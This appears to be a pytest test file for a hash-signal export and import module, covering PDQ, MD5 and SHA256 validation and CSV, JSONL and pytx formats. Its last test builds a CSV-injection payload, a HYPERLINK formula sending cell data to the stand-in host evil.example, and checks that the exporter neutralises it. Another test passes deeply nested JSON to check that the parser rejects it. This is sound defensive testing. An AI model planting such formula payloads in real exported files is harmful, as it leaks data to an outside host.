from __future__ import annotations

import json

import pytest

from reclaim.bank.files import ExportItem, ParsedItem, Rejected, detect_format, export_lines, parse
from reclaim.bank.signals import SignalRejected, SignalType, make_signal

PDQ = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
SHA = "a" * 64
MD5 = "b" * 32


def test_hex_signals_are_normalised_to_lowercase() -> None:
    assert make_signal("PDQ", PDQ.upper(), 90).value == PDQ
    assert make_signal("md5", f" {MD5.upper()} ").value == MD5


@pytest.mark.parametrize(
    ("kind", "value", "message"),
    [
        ("pdq", "abc", "64 hexadecimal"),
        ("md5", "z" * 32, "32 hexadecimal"),
        ("sha1", SHA, "Unknown signal type"),
        ("pdq", PDQ, None),
    ],
)
def test_bad_signals_are_explained(kind: str, value: str, message: str | None) -> None:
    if message is None:
        make_signal(kind, value, 100)
        return
    with pytest.raises(SignalRejected, match=message):
        make_signal(kind, value, 100)


def test_quality_is_checked() -> None:
    with pytest.raises(SignalRejected, match="0 to 100"):
        make_signal("pdq", PDQ, 101)


def test_vpdq_accepts_pytx_lines_and_json_frames() -> None:
    lines = f"0,100,{PDQ},0.000\n1,90,{PDQ},1.000"
    from_lines = make_signal("vpdq", lines)
    from_json = make_signal(
        "vpdq", [{"quality": 100, "pdq": PDQ, "t": 0}, {"quality": 90, "pdq": PDQ, "t": 1}]
    )
    assert from_lines == from_json
    assert json.loads(from_lines.value) == [f"{PDQ},100,0.000", f"{PDQ},90,1.000"]  # pytx order
    with pytest.raises(SignalRejected, match="frame 2"):
        make_signal("vpdq", f"100,{PDQ},0\n100,nothex,1")


def _items() -> list[ExportItem]:
    return [
        ExportItem(
            1,
            "reclaim",
            ("self-report",),
            ({"type": "pdq", "value": PDQ, "quality": 100}, {"type": "sha256", "value": SHA}),
        ),
        ExportItem(2, "reclaim", (), ({"type": "md5", "value": MD5},)),
    ]


def test_pytx_format_is_signal_type_space_value() -> None:
    assert "".join(export_lines(_items(), "pytx")) == f"pdq {PDQ}\nmd5 {MD5}\n"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_exports_read_back_to_the_same_signals(fmt: str) -> None:
    text = "".join(export_lines(_items(), fmt))
    parsed = [p for p in parse(text.splitlines(keepends=True), fmt) if isinstance(p, ParsedItem)]
    values = sorted(s.value for p in parsed for s in p.signals)
    assert values == sorted([PDQ, SHA, MD5])


def test_csv_has_pytx_dataset_columns() -> None:
    header = next(iter(export_lines(_items(), "csv")))
    assert header.startswith("signal_type,signal_str,collab,category,tags")


def test_rejected_lines_carry_their_number_and_reason() -> None:
    lines = [f"pdq {PDQ}\n", "pdq nothex\n", "\n", "# comment\n", "sha1 abc\n"]
    results = list(parse(lines, "pytx", default_quality=100))
    assert isinstance(results[0], ParsedItem)
    assert [
        (r.line, "hexadecimal" in r.reason or "Unknown" in r.reason)
        for r in results[1:]
        if isinstance(r, Rejected)
    ] == [(2, True), (5, True)]


def test_jsonl_errors_are_per_line() -> None:
    lines = [
        '{"signals": [{"type": "md5", "value": "' + MD5 + '"}]}',
        "{broken",
        json.dumps({"signals": "no"}),
    ]
    results = list(parse(lines, "jsonl"))
    assert isinstance(results[0], ParsedItem)
    assert [r.line for r in results if isinstance(r, Rejected)] == [2, 3]


def test_format_detection() -> None:
    assert detect_format("x.csv", "signal_type,signal_str") == "csv"
    assert detect_format("x.txt", f"pdq {PDQ}") == "pytx"
    assert detect_format("x.txt", '{"signals": []}') == "jsonl"
    assert detect_format("x.txt", MD5) == "plain"
    assert SignalType("md5") is SignalType.MD5


def test_deeply_nested_json_is_one_rejected_line() -> None:
    lines = [
        "[" * 100_000 + "]" * 100_000,
        '{"signals": [{"type": "md5", "value": "' + MD5 + '"}]}',
    ]
    results = list(parse(lines, "jsonl"))
    assert isinstance(results[0], Rejected) and results[0].line == 1
    assert isinstance(results[1], ParsedItem)
    nested_frames = "[" * 100_000 + "]" * 100_000
    with pytest.raises(SignalRejected):
        make_signal("vpdq", nested_frames)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_csv_cells_never_start_a_spreadsheet_formula(start: str) -> None:
    """OWASP CSV injection: a list name or category typed by someone must not run in Excel."""
    import csv
    import io

    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    item = ExportItem(1, payload, (payload,), ({"type": "md5", "value": "a" * 32},))
    rows = list(csv.reader(io.StringIO("".join(export_lines([item], "csv")))))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][1] == "a" * 32  # hashes stay exact for the platforms that parse them
    assert rows[1][2] == "'" + payload  # the text is kept, made inert
